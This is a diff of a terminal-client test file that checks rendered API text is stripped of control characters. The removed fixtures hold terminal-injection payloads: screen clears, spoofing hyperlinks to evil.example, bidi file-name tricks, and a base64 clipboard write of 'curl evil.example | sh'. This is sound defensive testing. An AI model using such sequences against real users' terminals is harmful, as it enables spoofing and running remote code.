@@ -2,34 +2,20 @@ import { StatusLine } from '../terminal/status-line';
 import { displayWidth, fit } from '../terminal/text';
 import type { Story } from '@hn/contract';
 import { describe, expect, it } from 'vitest';
-import { forbiddenCharacters } from '@hn/testing/forbidden-characters';
+import { TERMINAL_ATTACKS, forbiddenCharacters } from '@hn/testing/forbidden-characters';
 import { progressLine } from './progress-line';
 import { storiesTable } from './stories-table';
 import { wordBars } from './word-bars';
 
-/** Text from the API that would drive a terminal if printed raw. */
-const PAYLOADS: Record<string, string> = {
-  'CSI clear screen': '\x1b[2J\x1b[3J\x1b[H',
-  'CSI colours': '\x1b[41;97mALERT\x1b[0m',
-  'OSC 8 hyperlink': '\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\',
-  'OSC 52 clipboard write': '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07',
-  DCS: '\x1bP+q544e\x1b\\',
-  'carriage return overwrite': 'harmless\rEVIL    ',
-  NUL: 'nul\x00byte',
-  'C1 controls and 8-bit CSI': 'c1\u0085\u009b2J\u009d0;t\u009c',
-  'bidi overrides': '\u202Egnp.exe\u202C \u2066isolate\u2069',
-  'unterminated OSC': 'cut \x1b]8;;https://evil.example/ never terminated',
-};
-
+/** The output's characters that could drive a terminal (ESC included): none. */
 function expectSafe(output: string): void {
-  expect(output).not.toContain('\x1b');
   expect(forbiddenCharacters(output)).toEqual([]);
 }
 
 const story = (id: number, title: string, by = `user${id}`, url = `https://example.com/${id}`) =>
   ({ id, title, by, url, score: 1, time: 0, comments: 0, type: 'story' }) satisfies Story;
 
-describe.each(Object.entries(PAYLOADS))('text from the API with %s', (_, payload) => {
+describe.each(Object.entries(TERMINAL_ATTACKS))('text from the API with %s', (_, payload) => {
   it('leaves the stories table safe, every row exactly as wide as the layout', () => {
     // The url (last column) overflows in every row, so each row takes the table's full width;
     // the title and author are cut or padded to their columns wherever the payload sits.
